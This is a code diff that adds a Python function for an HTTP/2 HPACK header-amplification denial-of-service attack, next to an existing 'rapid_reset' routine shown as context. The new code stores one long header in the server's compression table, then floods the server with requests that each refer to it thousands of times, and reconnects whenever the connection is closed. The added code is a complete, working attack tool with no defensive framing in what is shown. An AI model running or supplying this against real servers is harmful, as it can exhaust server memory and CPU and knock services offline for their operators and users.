@@ -57,3 +57,37 @@ def rapid_reset(target: str, path: str, seconds: float) -> tuple[int, int]:
             except OSError:  # it was closed
                 continue
     return calls, connections
+
+
+def header_references(target: str, path: str, seconds: float, references: int = 4000, size: int = 3900) -> int:
+    """Let a server remember one long header, and refer to it thousands of times in every call; return how many calls.
+
+    A reference is one byte; what it stands for has ``size`` bytes.
+    """
+    long = b"\x40" + _literal(b"x") + _literal(b"v" * size)
+    calls = 0
+    ends = time.monotonic() + seconds
+    while time.monotonic() < ends:
+        with connect(target) as opened:
+            stream = 1
+            try:
+                opened.sendall(frame(HEADERS, END_HEADERS | END_STREAM, stream, call_headers(path) + long))
+                while time.monotonic() < ends:
+                    stream += 2
+                    block = call_headers(path) + b"\xbe" * references
+                    opened.sendall(frame(HEADERS, END_HEADERS, stream, block))
+                    calls += 1
+            except OSError:  # it was closed
+                continue
+    return calls
+
+
+def _literal(text: bytes) -> bytes:
+    """Write a string as HPACK has it, without Huffman's code."""
+    if len(text) < 127:
+        return bytes([len(text)]) + text
+    left, written = len(text) - 127, bytearray([127])
+    while left >= 128:
+        written.append(left % 128 + 128)
+        left //= 128
+    return bytes(written) + bytes([left]) + text
